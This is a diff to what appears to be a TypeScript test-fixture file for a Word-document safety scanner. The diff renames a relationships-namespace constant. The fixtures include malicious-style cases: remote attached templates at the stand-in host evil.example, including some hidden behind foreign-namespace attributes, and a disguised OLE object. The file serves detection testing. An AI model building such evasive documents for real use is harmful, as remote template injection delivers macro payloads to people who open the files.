@@ -3,8 +3,8 @@ import {
   contentTypes,
   createOldOfficeFile,
   docx,
-  officeRelationships,
   relationships,
+  relationshipsNamespace,
   rootRelationships,
   wordPart,
   type ZipPart,
@@ -21,7 +21,7 @@ function createRelationship(
   mode = 'External',
   of = documentRelationships,
 ) {
-  const type = `${officeRelationships}/${kind}`;
+  const type = `${relationshipsNamespace}/${kind}`;
   return docx([
     relationships(of, `Type="${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}`),
   ]);
@@ -103,7 +103,7 @@ const hiddenByNamespaces: WordCase[] = [
     docx([
       relationships(
         documentRelationships,
-        `${foreignNamespace} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
+        `${foreignNamespace} Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Target="a.xml" x:TargetMode="Internal"`,
       ),
     ]),
   ],
@@ -112,7 +112,7 @@ const hiddenByNamespaces: WordCase[] = [
     docx([
       relationships(
         documentRelationships,
-        `${foreignNamespace} Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
+        `${foreignNamespace} Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" x:Type="a/hyperlink"`,
       ),
     ]),
   ],
@@ -121,7 +121,7 @@ const hiddenByNamespaces: WordCase[] = [
     docx([
       relationships(
         documentRelationships,
-        `${foreignNamespace} Type="${officeRelationships}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
+        `${foreignNamespace} Type="${relationshipsNamespace}/oleObject" Target="a.bin" x:Type="a/hyperlink"`,
       ),
     ]),
   ],
@@ -532,7 +532,7 @@ export const unsafeWord: WordCase[] = [
       {
         name: documentRelationships,
         content: encodeUtf16(
-          `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${officeRelationships}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
+          `<?xml version="1.0" encoding="utf-16"?><Relationships><Relationship Id="a" Type="${relationshipsNamespace}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
         ),
       },
     ]),
@@ -594,7 +594,7 @@ export const ordinaryWord: WordCase[] = [
         { name: `word/media/image1.${kind}`, content: gzipSync('a picture') },
         relationships(
           documentRelationships,
-          `Type="${officeRelationships}/image" Target="media/image1.${kind}"`,
+          `Type="${relationshipsNamespace}/image" Target="media/image1.${kind}"`,
         ),
       ]),
     ],
@@ -685,7 +685,7 @@ export const ordinaryWord: WordCase[] = [
         },
         relationships(
           'word/charts/_rels/chart1.xml.rels',
-          `Type="${officeRelationships}/package" Target="../embeddings/a.xlsx"`,
+          `Type="${relationshipsNamespace}/package" Target="../embeddings/a.xlsx"`,
         ),
       ],
     ),
